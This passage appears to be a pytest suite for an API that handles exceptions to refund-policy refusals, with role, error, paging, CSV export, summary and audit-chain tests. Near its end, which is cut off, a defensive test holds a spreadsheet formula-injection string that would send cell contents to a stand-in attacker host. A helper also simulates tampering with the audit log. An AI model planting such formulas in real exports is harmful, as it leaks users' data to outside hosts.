"""Exceptions through the real app over a real SQLite file (and PostgreSQL when
POLICYCHECK_TEST_PG is set): the full flow to `policycheck audit verify`, every role boundary,
every 4xx, cursor pages, the CSV export and the quality team's summary."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx2 as httpx
import pytest
import sqlalchemy
from api_support import KEYS, PG_URL, ROOT, SEAL_KEYS, auth, reset_postgres
from fastapi.testclient import TestClient

from api.app import create_app
from api.settings import Settings
from policycheck.review.exceptions import REASON_CODES
from policycheck.service.keys import digest, parse_keys
from tests.tomtom_requests import (
    LAST_DAY,
    LATE_AND_USED,
    MAP_DOWNLOADED,
    ONE_DAY_LATE,
    USE_UNKNOWN,
)

POLICYCHECK = Path(sys.executable).with_name("policycheck")
SEALED = {**os.environ, "POLICYCHECK_SEAL_KEYS": SEAL_KEYS}  # the test app's seal keys
TOMTOM = "tomtom-fr-2012"
# subscription-cancellation: a renewal refunded mid-period, refused (rigid, by a supervisor);
# subscriber.postcode is a personal fact.
RENEWAL_REFUND = {
    "request": {"kind": "refund", "date": "2025-03-12"},
    "subscriber": {"consumer": True, "postcode": "75011"},
    "subscription": {"first": False},
    "contract": {"concluded": "2024-06-01"},
    "billing": {"period_start": "2025-03-01"},
}
JUSTIFICATION = "The customer ordered the wrong device and called us one working day late."
TODAY = datetime.now(UTC).date()
CSV_HEADER = [
    "id",
    "status",
    "created_at",
    "decision_id",
    "policy_id",
    "policy_version",
    "clause_id",
    "agent_key_id",
    "agent_role",
    "granted_outcome",
    "remedy_kind",
    "remedy_amount",
    "reason_code",
    "justification",
    "follow_up_on",
    "suggestion",
    "decision_outcome",
    "decision_rigid",
    "reviewed_by",
    "reviewed_at",
    "review_note",
    "beyond_discretion",
]


def key_id(key: str) -> str:
    return digest(key)[:8]


def body(**changes: Any) -> dict[str, Any]:
    return {
        "granted_outcome": "allow",
        "remedy": {"kind": "refund"},
        "reason_code": "customer_error",
        "justification": JUSTIFICATION,
        **changes,
    }


def decide(
    client: TestClient, facts: dict[str, Any], role: str = "agent", policy: str = TOMTOM
) -> dict[str, Any]:
    response = client.post(
        "/v1/decisions", json={"policy": policy, "facts": facts}, headers=auth(role)
    )
    assert response.status_code == 200, response.text
    decision: dict[str, Any] = response.json()
    return decision


def grant(
    client: TestClient,
    decision_id: str,
    role: str = "agent",
    status: int = 201,
    headers: dict[str, str] | None = None,
    **changes: Any,
) -> dict[str, Any]:
    response = client.post(
        f"/v1/decisions/{decision_id}/exceptions",
        json=body(**changes),
        headers=headers or auth(role),
    )
    assert response.status_code == status, response.text
    out: dict[str, Any] = response.json()
    return out


def review(
    client: TestClient, exception_id: str, action: str = "approve", role: str = "supervisor",
    note: str = "Called the customer: confirmed.", status: int = 200,
) -> dict[str, Any]:  # fmt: skip
    response = client.post(
        f"/v1/exceptions/{exception_id}/{action}", json={"note": note}, headers=auth(role)
    )
    assert response.status_code == status, response.text
    out: dict[str, Any] = response.json()
    return out


def listing(client: TestClient, role: str = "quality", **params: Any) -> list[dict[str, Any]]:
    response = client.get("/v1/exceptions", params=params, headers=auth(role))
    assert response.status_code == 200, response.text
    items: list[dict[str, Any]] = response.json()["items"]
    return items


def export(client: TestClient, **params: Any) -> list[dict[str, str]]:
    response = client.get("/v1/exceptions/export.csv", params=params, headers=auth("quality"))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="exceptions.csv"'
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == CSV_HEADER
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def audit(db_url: str, seal_file: Path | None = None) -> subprocess.CompletedProcess[str]:
    """`audit verify` with the test app's seal keys, or those of a seal file `serve` made."""
    options = ["--seal-file", str(seal_file)] if seal_file else []
    env = {k: v for k, v in SEALED.items() if not (seal_file and k == "POLICYCHECK_SEAL_KEYS")}
    return subprocess.run(
        [str(POLICYCHECK), "audit", "verify", "--db", db_url, *options],
        capture_output=True, text=True, timeout=60, check=False, env=env,
    )  # fmt: skip


def tamper(db_url: str, statement: str) -> None:
    """What an attacker with access to the database can do: drop the triggers, then write."""
    if db_url.startswith("sqlite"):
        raw = sqlite3.connect(db_url.removeprefix("sqlite:///"))
        raw.execute("DROP TRIGGER exception_log_no_update")
        raw.execute("DROP TRIGGER exception_log_no_delete")
        raw.execute(statement)
        raw.commit()
        raw.close()
        return
    engine = sqlalchemy.create_engine(db_url)
    with engine.begin() as conn:
        conn.execute(sqlalchemy.text("DROP TRIGGER exception_log_append_only ON exception_log"))
        conn.execute(sqlalchemy.text(statement))
    engine.dispose()


# -- the flow ------------------------------------------------------------------------------------


def test_refusal_exception_approval_review_export_audit(client: TestClient, db_url: str) -> None:
    decision = decide(client, MAP_DOWNLOADED)
    assert (decision["outcome"], decision["clause"]["id"], decision["rigid"]) == (
        "refuse",
        "b",
        True,
    )
    assert decision["discretion"]["level"] == "supervisor"
    follow_up = (TODAY + timedelta(days=2)).isoformat()
    pending = grant(
        client,
        decision["decision_id"],
        reason_code="misinformation",
        follow_up_on=follow_up,
        suggestion="Say on the order page that a downloaded map cannot be cancelled",
    )
    assert pending["status"] == "pending"
    assert pending["decision_id"] == decision["decision_id"]
    assert pending["granted_by"] == {"key_id": key_id(KEYS["agent"]), "role": "agent"}
    assert pending["policy"] == decision["policy"]
    assert pending["clause"]["id"] == "b"
    assert pending["beyond_discretion"] is False
    assert pending["remedy"] == {"kind": "refund", "amount": None}
    assert (pending["follow_up_on"], pending["justification"]) == (follow_up, JUSTIFICATION)
    assert pending["snapshot"]["outcome"] == "refuse"
    assert pending["snapshot"]["explanation"] == decision["explanation"]
    assert pending["snapshot"]["facts"] == MAP_DOWNLOADED
    assert [item["status"] for item in pending["history"]] == ["pending"]
    assert [item["id"] for item in listing(client, status="pending")] == [pending["id"]]

    approved = review(client, pending["id"], note="Our shop page promised a refund.")
    assert approved["status"] == "approved"
    assert approved["history"][1] == {
        "status": "approved",
        "at": approved["history"][1]["at"],
        "by": {"key_id": key_id(KEYS["supervisor"]), "role": "supervisor"},
        "note": "Our shop page promised a refund.",
    }

    read = client.get(f"/v1/exceptions/{pending['id']}", headers=auth("quality"))
    assert read.status_code == 200
    assert read.json() == approved
    matching = {
        "policy": TOMTOM,
        "clause": "b",
        "agent": key_id(KEYS["agent"]),
        "reason": "misinformation",
        "status": "approved",
        "since": TODAY.isoformat(),
        "until": TODAY.isoformat(),
    }
    listed = listing(client, **matching)
    assert [item["id"] for item in listed] == [pending["id"]]
    assert "snapshot" not in listed[0]
    assert listed[0] == {k: v for k, v in approved.items() if k != "snapshot"}
    for name, other in [("clause", "a"), ("status", "pending"), ("reason", "goodwill"),
                        ("agent", key_id(KEYS["supervisor"])), ("policy", "eu-consumer-withdrawal"),
                        ("until", (TODAY - timedelta(days=1)).isoformat())]:  # fmt: skip
        assert listing(client, **{**matching, name: other, "since": ""}) == [], name
    assert listing(client, since=(TODAY + timedelta(days=1)).isoformat()) == []

    rows = export(client, **matching)
    assert len(rows) == 1
    row = rows[0]
    assert (row["id"], row["status"], row["decision_id"]) == (
        pending["id"],
        "approved",
        decision["decision_id"],
    )
    assert (row["policy_id"], row["policy_version"], row["clause_id"]) == (TOMTOM, "2012-06", "b")
    assert (row["agent_key_id"], row["agent_role"]) == (key_id(KEYS["agent"]), "agent")
    assert (row["remedy_kind"], row["remedy_amount"], row["reason_code"]) == (
        "refund",
        "",
        "misinformation",
    )
    assert (row["justification"], row["follow_up_on"]) == (JUSTIFICATION, follow_up)
    assert (row["decision_outcome"], row["decision_rigid"]) == ("refuse", "True")
    assert row["reviewed_by"] == key_id(KEYS["supervisor"])
    assert row["review_note"] == "Our shop page promised a refund."
    assert export(client, status="pending") == []

    verified = audit(db_url)
    assert verified.returncode == 0, verified.stdout + verified.stderr
    assert "2 entries, chain intact" in verified.stdout

    tamper(db_url, "UPDATE exception_log SET status = 'rejected' WHERE seq = 2")
    broken = audit(db_url)
    assert broken.returncode == 1, broken.stdout + broken.stderr
    assert f"entry 2 (exception {pending['id']}, approved)" in broken.stdout
    assert "hash does not match" in broken.stdout


def test_an_agent_exception_within_the_agents_discretion_is_final(client: TestClient) -> None:
    decision = decide(client, ONE_DAY_LATE)
    assert (decision["rigid"], decision["discretion"]["level"]) == (True, "agent")
    granted = grant(client, decision["decision_id"])
    assert granted["status"] == "granted"
    assert granted["snapshot"]["deadline"] == "2012-04-21"
    assert granted["snapshot"]["margin"] == {"value": 1, "unit": "ouvrables", "late": True}
    review(client, granted["id"], status=409)


def test_a_supervisor_exception_on_a_supervisor_clause_is_final(client: TestClient) -> None:
    decision = decide(client, MAP_DOWNLOADED)
    assert grant(client, decision["decision_id"], role="supervisor")["status"] == "granted"


def test_a_deleted_entry_fails_the_audit(client: TestClient, db_url: str) -> None:
    made = [grant(client, decide(client, ONE_DAY_LATE)["decision_id"]) for _ in range(3)]
    assert audit(db_url).returncode == 0
    tamper(db_url, "DELETE FROM exception_log WHERE seq = 2")
    broken = audit(db_url)
    assert broken.returncode == 1
    assert f"entry 3 (exception {made[2]['id']}, granted): expected entry 2" in broken.stdout


def test_personal_facts_stay_masked(client: TestClient) -> None:
    decision = decide(client, RENEWAL_REFUND, policy="subscription-cancellation")
    assert (decision["outcome"], decision["rigid"]) == ("refuse", True)
    made = grant(client, decision["decision_id"], reason_code="goodwill")
    assert made["status"] == "pending"  # `discretion supervisor`
    assert made["snapshot"]["facts"]["subscriber"] == {"consumer": True, "postcode": "***"}
    read = client.get(f"/v1/exceptions/{made['id']}", headers=auth("quality"))
    assert read.json()["snapshot"]["facts"]["subscriber"]["postcode"] == "***"
    for text in (json.dumps(made), read.text, json.dumps(listing(client)), str(export(client))):
        assert "75011" not in text


# -- roles ---------------------------------------------------------------------------------------

GRANT, REVIEW, READ = (
    ("agent", "supervisor", "admin"),
    ("supervisor", "admin"),
    ("quality", "admin"),
)
ROLES = tuple(KEYS)


def test_who_may_grant(client: TestClient) -> None:
    for role in ROLES:
        decision = decide(client, ONE_DAY_LATE)
        response = client.post(
            f"/v1/decisions/{decision['decision_id']}/exceptions", json=body(), headers=auth(role)
        )
        if role in GRANT:
            assert response.status_code == 201, (role, response.text)
            assert response.json()["granted_by"]["role"] == role
        else:
            assert (response.status_code, response.json()["code"]) == (403, "forbidden"), role
    granted_by = sorted(item["granted_by"]["role"] for item in listing(client))
    assert granted_by == sorted(GRANT)  # nothing written for the others


def test_who_may_approve_or_reject(client: TestClient) -> None:
    for action, status in (("approve", "approved"), ("reject", "rejected")):
        for role in ROLES:
            pending = grant(client, decide(client, MAP_DOWNLOADED)["decision_id"])
            response = client.post(
                f"/v1/exceptions/{pending['id']}/{action}",
                json={"note": "checked"},
                headers=auth(role),
            )
            case = (action, role, response.text)
            if role in REVIEW:
                assert response.status_code == 200, case
                assert response.json()["status"] == status, case
                assert response.json()["history"][-1]["by"]["role"] == role
            else:
                assert (response.status_code, response.json()["code"]) == (403, "forbidden"), case
                assert listing(client, status="pending")[0]["id"] == pending["id"], case


def test_who_may_review(client: TestClient) -> None:
    made = grant(client, decide(client, ONE_DAY_LATE)["decision_id"])
    paths = {
        "/v1/exceptions": ("supervisor", *READ),  # supervisors look for the pending ones
        f"/v1/exceptions/{made['id']}": ("agent", "supervisor", *READ),  # as a decision is read
        "/v1/exceptions/export.csv": READ,
        "/v1/review/summary": READ,
    }
    for role in ROLES:
        for path, readers in paths.items():
            response = client.get(path, headers=auth(role))
            if role in readers:
                assert response.status_code == 200, (role, path, response.text)
                assert made["id"] in response.text or path == "/v1/review/summary"
            else:
                assert response.status_code == 403, (role, path, response.text)
                assert response.json()["code"] == "forbidden"
                assert made["id"] not in response.text


ROUTES = [
    ("post", "/v1/decisions/{decision}/exceptions", body()),
    ("post", "/v1/exceptions/{exception}/approve", {"note": "ok"}),
    ("post", "/v1/exceptions/{exception}/reject", {"note": "ok"}),
    ("get", "/v1/exceptions", None),
    ("get", "/v1/exceptions/{exception}", None),
    ("get", "/v1/exceptions/export.csv", None),
    ("get", "/v1/review/summary", None),
]


def test_every_route_needs_a_key(client: TestClient) -> None:
    decision = decide(client, MAP_DOWNLOADED)
    pending = grant(client, decision["decision_id"])
    presented = [{}, {"Authorization": "Bearer not-a-key"}, {"Authorization": KEYS["admin"]}]
    for headers in presented:  # none, unknown, not a bearer
        for method, template, payload in ROUTES:
            path = template.format(decision=decision["decision_id"], exception=pending["id"])
            response = client.request(method, path, json=payload, headers=headers)
            assert response.status_code == 401, (headers, method, path, response.text)
            assert response.json()["code"] == "unauthenticated", (method, path)
            assert response.headers["www-authenticate"] == "Bearer"
    assert listing(client, status="pending")[0]["id"] == pending["id"]  # nothing changed
    assert len(listing(client)) == 1


# -- every 4xx -----------------------------------------------------------------------------------


def test_a_firm_refusal_needs_a_supervisor(client: TestClient) -> None:
    decision = decide(client, LATE_AND_USED)
    assert (decision["outcome"], decision["rigid"]) == ("refuse", False)
    refused = client.post(
        f"/v1/decisions/{decision['decision_id']}/exceptions", json=body(), headers=auth("agent")
    )
    assert (refused.status_code, refused.json()["code"]) == (403, "supervisor_required")
    assert "supervisor" in refused.json()["message"]
    assert listing(client) == []
    made = grant(client, decision["decision_id"], role="supervisor")
    assert (made["status"], made["beyond_discretion"]) == ("granted", True)


def test_what_is_not_a_refusal_cannot_be_excepted(client: TestClient) -> None:
    for facts, outcome in ((LAST_DAY, "allow"), (USE_UNKNOWN, "needs_info")):
        decision = decide(client, facts)
        assert decision["outcome"] == outcome
        for role in ("agent", "supervisor", "admin"):
            got = grant(client, decision["decision_id"], role=role, status=409)
            assert got["code"] == "not_refused", (outcome, role)
    assert listing(client) == []


def test_unknown_decisions_and_exceptions(client: TestClient) -> None:
    for unknown in ("0" * 32, "not-a-decision", "f" * 100):
        assert grant(client, unknown, status=404)["code"] == "unknown_decision", unknown
        got = client.get(f"/v1/exceptions/{unknown}", headers=auth("quality"))
        assert (got.status_code, got.json()["code"]) == (404, "unknown_exception"), unknown
        for action in ("approve", "reject"):
            got = review(client, unknown, action, status=404)
            assert got["code"] == "unknown_exception", (unknown, action)


def test_one_active_exception_per_decision(client: TestClient) -> None:
    decision_id = decide(client, MAP_DOWNLOADED)["decision_id"]
    first = grant(client, decision_id)
    for role in ("agent", "supervisor", "admin"):  # pending counts as active
        conflict = grant(client, decision_id, role=role, status=409)
        assert conflict["code"] == "exception_exists"
        assert first["id"] in conflict["message"]
    review(client, first["id"], "reject", note="The customer used the map for a month.")
    second = grant(client, decision_id, role="supervisor", reason_code="goodwill")
    assert second["status"] == "granted"
    assert grant(client, decision_id, status=409)["code"] == "exception_exists"
    assert [item["id"] for item in listing(client)] == [second["id"], first["id"]]
    logged = client.get(f"/v1/decisions/{decision_id}", headers=auth("agent")).json()
    assert logged["exceptions"] == [
        {"id": first["id"], "status": "rejected"},
        {"id": second["id"], "status": "granted"},
    ]
    other = decide(client, MAP_DOWNLOADED)["decision_id"]
    assert client.get(f"/v1/decisions/{other}", headers=auth("agent")).json()["exceptions"] == []


def test_only_pending_exceptions_are_reviewed(client: TestClient) -> None:
    pending = grant(client, decide(client, MAP_DOWNLOADED)["decision_id"])
    review(client, pending["id"])
    for action in ("approve", "reject"):
        got = review(client, pending["id"], action, role="admin", status=409)
        assert got["code"] == "not_pending"
    granted = grant(client, decide(client, ONE_DAY_LATE)["decision_id"])
    assert review(client, granted["id"], status=409)["code"] == "not_pending"
    assert review(client, granted["id"], "reject", status=409)["code"] == "not_pending"
    got = client.get(f"/v1/exceptions/{pending['id']}", headers=auth("quality")).json()
    assert [item["status"] for item in got["history"]] == ["pending", "approved"]


MALFORMED: list[tuple[Any, list[str]]] = [
    ({**body(), "justification": 123}, ["justification"]),
    ({**body(), "remedy": "refund"}, ["remedy"]),
    ({**body(), "remedy": {"kind": "partial_refund", "amount": "lots"}}, ["remedy.amount"]),
    ({**body(), "remedy": {"kind": "partial_refund", "amount": True}}, ["remedy.amount"]),
    ({**body(), "remedy": {"kind": "partial_refund", "amount": "12"}}, ["remedy.amount"]),
    ({**body(), "follow_up_on": "next week"}, ["follow_up_on"]),
    ({**body(), "reason_code": ["goodwill"]}, ["reason_code"]),
    ({"granted_outcome": "allow"}, ["remedy", "reason_code", "justification"]),
    ({**body(), "approved_by": "me"}, ["approved_by"]),
    ({**body(), "remedy": {"kind": "refund", "currency": "EUR"}}, ["remedy.currency"]),
    ([body()], [""]),
]


def test_a_malformed_body(client: TestClient) -> None:
    decision_id = decide(client, ONE_DAY_LATE)["decision_id"]
    url = f"/v1/decisions/{decision_id}/exceptions"
    for payload, fields in MALFORMED:
        response = client.post(url, json=payload, headers=auth("agent"))
        assert response.status_code == 422, (payload, response.text)
        out = response.json()
        assert out["code"] == "invalid_body", payload
        assert sorted({problem["field"] for problem in out["errors"]}) == sorted(fields), payload
    not_json = client.post(
        url, content=b"{not json", headers={**auth("agent"), "Content-Type": "application/json"}
    )
    assert (not_json.status_code, not_json.json()["code"]) == (422, "invalid_body")
    assert listing(client) == []
    assert grant(client, decision_id)["status"] == "granted"  # the decision was not used up


def test_every_problem_of_an_exception_is_listed(client: TestClient) -> None:
    decision_id = decide(client, ONE_DAY_LATE)["decision_id"]
    got = grant(
        client,
        decision_id,
        status=422,
        justification="   sorry   ",
        reason_code="because_i_said_so",
        remedy={"kind": "partial_refund"},
    )
    assert got["code"] == "invalid_exception"
    fields = sorted(problem["field"] for problem in got["errors"])
    assert fields == ["justification", "reason_code", "remedy.amount"]
    reason = next(p for p in got["errors"] if p["field"] == "reason_code")
    assert all(code in reason["message"] for code in REASON_CODES)
    assert listing(client) == []


INVALID: list[tuple[dict[str, Any], str]] = [
    ({"justification": "customer error"}, "justification"),
    (
        {"reason_code": "goodwill", "justification": "Goodwill gesture to keep the customer!"},
        "justification",
    ),
    ({"justification": "\n\t" * 20}, "justification"),
    ({"justification": "j" * 4001}, "justification"),
    ({"remedy": {"kind": "refund", "amount": -10}}, "remedy.amount"),
    ({"remedy": {"kind": "refund", "amount": 0}}, "remedy.amount"),
    ({"remedy": {"kind": "voucher"}}, "remedy.kind"),
    ({"granted_outcome": "refuse"}, "granted_outcome"),
    ({"follow_up_on": (TODAY - timedelta(days=1)).isoformat()}, "follow_up_on"),
    ({"suggestion": "s" * 2001}, "suggestion"),
]


def test_an_invalid_exception_names_its_field(client: TestClient) -> None:
    decision_id = decide(client, ONE_DAY_LATE)["decision_id"]
    for changes, field in INVALID:
        got = grant(client, decision_id, status=422, **changes)
        assert got["code"] == "invalid_exception", changes
        assert [problem["field"] for problem in got["errors"]] == [field], changes
    assert listing(client) == []


def test_a_review_needs_a_note(client: TestClient) -> None:
    pending = grant(client, decide(client, MAP_DOWNLOADED)["decision_id"])
    for note in ("", "   \n ", "n" * 2001):
        for action in ("approve", "reject"):
            got = review(client, pending["id"], action, note=note, status=422)
            assert got["code"] == "invalid_body", (note, action)
            assert [problem["field"] for problem in got["errors"]] == ["note"], (note, action)
    for payload in ({}, {"note": None}, {"note": 5}, {"note": "ok", "x": 1}, ["ok"]):
        response = client.post(
            f"/v1/exceptions/{pending['id']}/approve", json=payload, headers=auth("supervisor")
        )
        assert (response.status_code, response.json()["code"]) == (422, "invalid_body"), payload
    assert listing(client, status="pending")[0]["id"] == pending["id"]


BAD_QUERIES: list[tuple[dict[str, str], str]] = [
    ({"status": "foo"}, "status"),
    ({"since": "notadate"}, "since"),
    ({"until": "2026-13-01"}, "until"),
    ({"since": "2026-02-02", "until": "2026-02-01"}, "until"),
    ({"limit": "0"}, "limit"),
    ({"limit": "501"}, "limit"),
    ({"limit": "ten"}, "limit"),
    ({"limit": "-1"}, "limit"),
    ({"cursor": "bad cursor"}, "cursor"),
    ({"cursor": "czEyYQ"}, "cursor"),  # base64 of "s12a"
]


def test_a_bad_query_is_named(client: TestClient) -> None:
    for params, field in BAD_QUERIES:
        paths = ["/v1/exceptions"]
        if field not in ("limit", "cursor"):
            paths += ["/v1/exceptions/export.csv"]
        if field in ("since", "until"):
            paths += ["/v1/review/summary"]
        for path in paths:
            response = client.get(path, params=params, headers=auth("quality"))
            assert response.status_code == 422, (path, params, response.text)
            assert response.json()["code"] == "invalid_query", (path, params)
            fields = [problem["field"] for problem in response.json()["errors"]]
            assert fields == [field], (path, params)


def test_every_bad_parameter_at_once(client: TestClient) -> None:
    params = {"status": "foo", "since": "yesterday", "limit": "0", "cursor": "?"}
    response = client.get("/v1/exceptions", params=params, headers=auth("quality"))
    assert response.status_code == 422
    fields = [problem["field"] for problem in response.json()["errors"]]
    assert sorted(fields) == ["cursor", "limit", "since", "status"]


def test_the_summary_refuses_the_filters_of_the_list(client: TestClient) -> None:
    params = {"clause": "a", "agent": "1a2b3c4d", "reason": "goodwill", "status": "foo"}
    response = client.get("/v1/review/summary", params=params, headers=auth("quality"))
    assert response.status_code == 422
    assert response.json()["code"] == "invalid_query"
    problems = {p["field"]: p["message"] for p in response.json()["errors"]}
    assert set(problems) == set(params)
    assert all("accepted: policy, since, until" in message for message in problems.values())


# -- pages ---------------------------------------------------------------------------------------


def test_cursor_pages_give_every_exception_once_newest_first(client: TestClient) -> None:
    made = [grant(client, decide(client, ONE_DAY_LATE)["decision_id"])["id"] for _ in range(7)]
    seen, sizes, cursor = [], [], None
    while True:
        params = {"limit": "3", **({"cursor": cursor} if cursor else {})}
        page = client.get("/v1/exceptions", params=params, headers=auth("quality")).json()
        seen += [item["id"] for item in page["items"]]
        sizes.append(len(page["items"]))
        cursor = page["next_cursor"]
        if cursor is None:
            break
        assert len(sizes) < 10, "the cursor does not advance"
    assert seen == list(reversed(made))
    assert sizes == [3, 3, 1]
    whole = client.get("/v1/exceptions", params={"limit": "7"}, headers=auth("quality")).json()
    assert whole["next_cursor"] is None
    assert [item["id"] for item in whole["items"]] == seen
    assert [row["id"] for row in export(client)] == seen


def test_pages_keep_their_filters(client: TestClient) -> None:
    pending = [grant(client, decide(client, MAP_DOWNLOADED)["decision_id"])["id"] for _ in range(3)]
    for _ in range(2):
        grant(client, decide(client, ONE_DAY_LATE)["decision_id"])
    first = client.get(
        "/v1/exceptions", params={"status": "pending", "limit": "2"}, headers=auth("quality")
    ).json()
    second = client.get(
        "/v1/exceptions",
        params={"status": "pending", "limit": "2", "cursor": first["next_cursor"]},
        headers=auth("quality"),
    ).json()
    assert [item["id"] for item in first["items"] + second["items"]] == pending[::-1]
    assert second["next_cursor"] is None


# -- the summary, with two agents ----------------------------------------------------------------

AGENT_ONE, AGENT_TWO = "agent-one-key-5f8c2a9e71d4", "agent-two-key-5f8c2a9e71d4"


@pytest.fixture
def team(rules: Path, db_url: str) -> Iterator[TestClient]:
    spec = ",".join(
        [f"agent:{AGENT_ONE}", f"agent:{AGENT_TWO}"]
        + [f"{role}:{KEYS[role]}" for role in ("supervisor", "legal", "quality", "admin")]
    )
    settings = Settings(
        rules_dir=rules, db_url=db_url, keys=tuple(parse_keys(spec)), refresh_seconds=0.0
    )
    with TestClient(create_app(settings), raise_server_exceptions=False) as test_client:
        yield test_client


def as_key(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


def team_decide(client: TestClient, facts: dict[str, Any], key: str) -> str:
    response = client.post(
        "/v1/decisions", json={"policy": TOMTOM, "facts": facts}, headers=as_key(key)
    )
    assert response.status_code == 200, response.text
    return str(response.json()["decision_id"])


def summary(client: TestClient, **params: str) -> dict[str, Any]:
    response = client.get("/v1/review/summary", params=params, headers=auth("quality"))
    assert response.status_code == 200, response.text
    out: dict[str, Any] = response.json()
    return out


def test_summary_per_clause_agent_reason_follow_up_and_friction(team: TestClient) -> None:
    soon, later = (TODAY + timedelta(days=3)).isoformat(), (TODAY + timedelta(days=30)).isoformat()
    a = [team_decide(team, ONE_DAY_LATE, AGENT_ONE) for _ in range(3)]
    team_decide(team, ONE_DAY_LATE, AGENT_TWO)  # a rigid refusal nobody excepted
    b = [team_decide(team, MAP_DOWNLOADED, AGENT_TWO) for _ in range(3)]
    team_decide(team, LAST_DAY, AGENT_ONE)  # allowed: no refusal
    one, two = as_key(AGENT_ONE), as_key(AGENT_TWO)
    e1 = grant(team, a[0], headers=one, follow_up_on=soon, suggestion="S1: 15 ouvrables")
    grant(team, a[1], headers=one, reason_code="goodwill", follow_up_on=later, suggestion="S2")
    e4 = grant(team, b[0], headers=two, reason_code="misinformation", suggestion="S4: warn")
    e5 = grant(team, b[1], headers=two, follow_up_on=TODAY.isoformat())
    e6 = grant(team, b[2], headers=two, reason_code="delivery_problem", follow_up_on=soon)
    review(team, e4["id"])
    review(team, e6["id"], "reject")

    out = summary(team)
    assert out["period"] == {"since": None, "until": None}
    assert out["policy"] is None
    assert out["totals"] == {
        "rigid_refusals": 7,
        "exceptions": 5,
        "granted": 2,
        "pending": 1,
        "approved": 1,
        "rejected": 1,
        "exceptions_granted": 3,
        "beyond_discretion": 0,
        "override_rate": pytest.approx(3 / 7, abs=1e-4),
        "unlawful_refusals": 0,  # no refusal of these terms that the law overruled
    }
    clauses = {row["clause"]: row for row in out["clauses"]}
    assert [row["clause"] for row in out["clauses"]] == ["a", "b"]  # most overridden first
    assert clauses["a"] == {
        "policy": TOMTOM,
        "clause": "a",
        "title": "Annulation du Matériel",
        "refusals": 4,
        "rigid_refusals": 4,
        "exceptions_granted": 2,
        "pending": 0,
        "rejected": 0,
        "beyond_discretion": 0,
        "override_rate": 0.5,
        "unlawful_refusals": 0,
    }
    assert clauses["b"]["title"] == "Annulation des Services"
    assert (clauses["b"]["refusals"], clauses["b"]["rigid_refusals"]) == (3, 3)
    assert (clauses["b"]["exceptions_granted"], clauses["b"]["pending"]) == (1, 1)
    assert clauses["b"]["rejected"] == 1
    assert clauses["b"]["override_rate"] == pytest.approx(1 / 3, abs=1e-4)

    agents = {row["agent"]: row for row in out["agents"]}
    first, second = key_id(AGENT_ONE), key_id(AGENT_TWO)
    assert set(agents) == {first, second}
    assert [row["agent"] for row in out["agents"]] == [first, second]  # highest rate first
    assert (agents[first]["rigid_refusals"], agents[first]["exceptions"]) == (3, 2)
    assert (agents[second]["rigid_refusals"], agents[second]["exceptions"]) == (4, 1)
    assert agents[first]["exception_rate"] == pytest.approx(2 / 3, abs=1e-4)
    assert agents[second]["exception_rate"] == pytest.approx(1 / 4, abs=1e-4)
    for row in agents.values():
        assert row["team_rate"] == pytest.approx(3 / 7, abs=1e-4)
        assert row["ratio_to_team"] == pytest.approx(row["exception_rate"] / (3 / 7), abs=0.01)

    reasons = {row["reason_code"]: (row["label"], row["count"]) for row in out["reasons"]}
    assert reasons == {
        "customer_error": (REASON_CODES["customer_error"], 2),
        "goodwill": (REASON_CODES["goodwill"], 1),
        "misinformation": (REASON_CODES["misinformation"], 1),
        "delivery_problem": (REASON_CODES["delivery_problem"], 1),
    }
    assert out["reasons"][0]["reason_code"] == "customer_error"  # commonest first

    due = out["follow_ups_due"]  # active ones within a week, soonest first; not the rejected
    assert [(item["exception_id"], item["follow_up_on"]) for item in due] == [
        (e5["id"], TODAY.isoformat()),
        (e1["id"], soon),
    ]
    assert [(item["clause"], item["agent"], item["status"]) for item in due] == [
        ("b", second, "pending"),
        ("a", first, "granted"),
    ]

    friction = out["friction"]
    assert [row["clause"] for row in friction] == ["a", "b"]
    assert (friction[0]["exceptions_granted"], friction[0]["override_rate"]) == (2, 0.5)
    assert sorted((r["reason_code"], r["count"]) for r in friction[0]["top_reasons"]) == [
        ("customer_error", 1),
        ("goodwill", 1),
    ]
    assert friction[0]["suggestions"] == ["S2", "S1: 15 ouvrables"]  # newest first
    assert friction[1]["top_reasons"] == [{"reason_code": "misinformation", "count": 1}]
    assert friction[1]["suggestions"] == ["S4: warn"]  # not the pending or rejected ones


def test_summary_filters(team: TestClient) -> None:
    decision = team_decide(team, ONE_DAY_LATE, AGENT_ONE)
    grant(team, decision, headers=as_key(AGENT_ONE))
    assert summary(team, policy=TOMTOM)["totals"]["exceptions"] == 1
    today = TODAY.isoformat()
    assert summary(team, since=today, until=today)["totals"]["rigid_refusals"] == 1
    for params in (
        {"policy": "subscription-cancellation"},
        {"since": (TODAY + timedelta(days=1)).isoformat()},
        {"until": (TODAY - timedelta(days=1)).isoformat()},
    ):
        out = summary(team, **params)
        assert out["totals"]["rigid_refusals"] == 0, params
        assert out["totals"]["exceptions"] == 0, params
        assert out["totals"]["override_rate"] is None, params
        assert (out["agents"], out["friction"], out["follow_ups_due"]) == ([], [], []), params
    assert summary(team, policy="subscription-cancellation")["policy"] == (
        "subscription-cancellation"
    )


def test_a_supervisor_beyond_discretion_is_counted_apart(team: TestClient) -> None:
    firm = team_decide(team, LATE_AND_USED, AGENT_ONE)
    rigid = team_decide(team, ONE_DAY_LATE, AGENT_ONE)
    made = grant(team, firm, role="supervisor", reason_code="exceptional_circumstances")
    assert made["beyond_discretion"] is True
    out = summary(team)
    (clause,) = out["clauses"]
    assert (clause["refusals"], clause["rigid_refusals"]) == (2, 1)
    assert (clause["exceptions_granted"], clause["beyond_discretion"]) == (0, 1)
    assert clause["override_rate"] == 0.0  # the rigid refusal was not overridden
    assert out["totals"]["override_rate"] == 0.0
    grant(team, rigid, headers=as_key(AGENT_ONE))
    assert summary(team)["clauses"][0]["override_rate"] == 1.0


# -- what agents write -----------------------------------------------------------------------


def test_free_text_survives_the_csv_and_cannot_run_as_a_formula(client: TestClient) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click") the customer was late, 1 day.'
    text = 'Zoë Ångström (東京) said: "one day late", with a comma\nand a new line.'
    made = grant(
